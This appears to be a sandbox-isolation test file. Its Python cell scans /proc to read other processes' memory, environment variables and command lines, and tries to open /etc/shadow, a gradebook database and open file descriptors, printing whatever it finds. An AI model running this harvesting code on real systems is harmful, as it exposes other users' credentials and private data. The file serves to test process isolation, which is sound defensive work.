# attack: reads the memory, environment, descriptors and root of every process it can see
# points: none
# must not: see or read any process but its own
# ordinary: yes

# %% before row_stats
import os
own = {str(os.getpid()), "self", "thread-self"}
for name in os.listdir("/proc"):
    if name.isdigit() and name not in own:
        for part in ("cmdline", "environ", "mem", "maps"):
            try:
                data = open(f"/proc/{name}/{part}", "rb").read(4096)
            except (OSError, OverflowError):
                continue
            if data:
                print("plun" + "der:", name, part, data[:200])
for pid in (os.getppid(), 1, 2, 3, 4, 5):
    for part in ("root/etc/shadow", "cwd/gradebook.db", "fd/3"):
        try:
            print("plun" + "der:", open(f"/proc/{pid}/{part}", "rb").read(100)) if pid != os.getpid() else None
        except OSError:
            pass
environment = open("/proc/self/environ").read() + str(dict(os.environ))
if "COURSE_DB" in environment or "PYTHONPATH" in environment or "diary" in environment:
    print("plun" + "der:", environment)
